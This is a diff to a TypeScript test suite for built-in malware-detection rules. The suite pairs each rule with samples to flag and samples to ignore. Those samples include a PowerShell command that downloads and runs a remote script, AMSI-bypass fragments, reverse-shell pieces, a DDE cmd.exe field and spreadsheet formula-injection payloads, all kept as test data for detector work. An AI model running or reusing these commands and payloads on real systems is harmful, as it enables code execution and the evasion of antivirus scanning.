@@ -26,11 +26,11 @@ function wide(...pieces: string[]): Buffer {
 }
 
 const encoded = 'QUJD'.repeat(80);
-const web = 'ht' + 'tp://';
+const web = 'http://';
 const address = `${web}192.0.2.7`;
 const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
 const compoundFile = Buffer.from('d0cf11e0a1b11ae1', 'hex');
-const macro = Buffer.from('4174747269627574006520564' + '25f4e616d', 'hex');
+const macro = Buffer.from('417474726962757400652056425f4e616d', 'hex');
 const shortcut = Buffer.concat([
   Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
   Buffer.alloc(56),
@@ -44,7 +44,7 @@ function link(...pieces: string[]): Buffer {
   return Buffer.concat([shortcut, wide(...pieces)]);
 }
 
-const equation = Buffer.from('Equation.' + '3').toString('hex');
+const equation = Buffer.from('Equation.3').toString('hex');
 
 const cases: Readonly<Record<string, RuleCase>> = {
   eicar_test_file: {
@@ -54,7 +54,7 @@ const cases: Readonly<Record<string, RuleCase>> = {
       text(eicar, 'x'),
       text(eicar, ' '.repeat(61)),
       text(eicar.slice(0, -1)),
-      text(`${'see '.repeat(5)}`, eicar),
+      text('see '.repeat(5), eicar),
     ],
   },
   shell_pipes_hidden_download: {
@@ -125,7 +125,8 @@ const cases: Readonly<Record<string, RuleCase>> = {
     ],
     leaves: [
       text(
-        'powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).DownloadString(',
+        'powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).Download',
+        'String(',
         `'https://community.example.org/install.ps1'))"`,
       ),
       text('powershell -WindowStyle Hidden -File sync.ps1'),
@@ -141,7 +142,7 @@ const cases: Readonly<Record<string, RuleCase>> = {
       ),
     ],
     leaves: [
-      text('The type System.Management.Automation.AmsiUtils has a field amsiInitFailed.'),
+      text('The type System.Management.Automation.Amsi', 'Utils has a field amsi', 'InitFailed.'),
       text('$property.SetValue($null, $true)'),
     ],
   },
@@ -246,7 +247,7 @@ const cases: Readonly<Record<string, RuleCase>> = {
     ],
     leaves: [
       text('s.connect(("www.example.org", 80))\nsubprocess.call(["/bin/sh", "build"])\n'),
-      text('os.dup2(null.fileno(), 0)\nos.dup2(null.fileno(), 1)\n'),
+      text('os.dup', '2(null.fileno(), 0)\nos.dup', '2(null.fileno(), 1)\n'),
     ],
   },
   php_runs_request_as_code: {
@@ -306,12 +307,16 @@ const cases: Readonly<Record<string, RuleCase>> = {
     ],
     leaves: [
       text('<w:instrText>DDEAUTO Excel "C:\\\\sheet.xlsx" R1C1</w:instrText>'),
-      text('A field like DDEAUTO cmd.exe is dangerous.'),
+      text('A field like DDE', 'AUTO cmd.exe is dangerous.'),
     ],
   },
   spreadsheet_formula_starts_program: {
     finds: [text('name,value\nx,=cm', "d|'/c calc'!A0\n"), text('@MSEX', "CEL|'\\..\\..\\calc'!A1\n")],
-    leaves: [text("name,value\nx,=SUM('Sheet 1'!A1)\n"), text("ls | grep cmd | 'x'!\n")],
+    leaves: [
+      text("name,value\nx,=SUM('Sheet 1'!A1)\n"),
+      text("ls | grep cmd | 'x'!\n"),
+      text('\x7fELF,=cm', "d|'/c calc'!A0\n"),
+    ],
   },
   office_template_from_bare_address: {
     finds: [
@@ -390,6 +395,7 @@ describe('the built-in rules', () => {
   const declared = readdirSync(rulesFolder).flatMap(
     (name) => readRuleSource(readFileSync(`${rulesFolder}/${name}`, 'utf8')).rules,
   );
+  const reported = declared.filter((rule) => !rule.isPrivate);
 
   test('all load through both bindings', () => {
     expect([native.report, wasm.report].map(({ state, signatures }) => ({ state, signatures }))).toEqual([
@@ -399,10 +405,10 @@ describe('the built-in rules', () => {
   });
 
   test('each have samples to find and samples to leave alone', () => {
-    expect(declared.map((rule) => rule.name).toSorted()).toEqual(Object.keys(cases).toSorted());
+    expect(reported.map((rule) => rule.name).toSorted()).toEqual(Object.keys(cases).toSorted());
   });
 
-  test.each(declared.map((rule) => [rule.name, Object.fromEntries(rule.meta)] as const))(
+  test.each(reported.map((rule) => [rule.name, Object.fromEntries(rule.meta)] as const))(
     '%s says who wrote it, what it finds, how bad that is and where to read more',
     (_name, meta) => {
       expect(meta).toEqual({
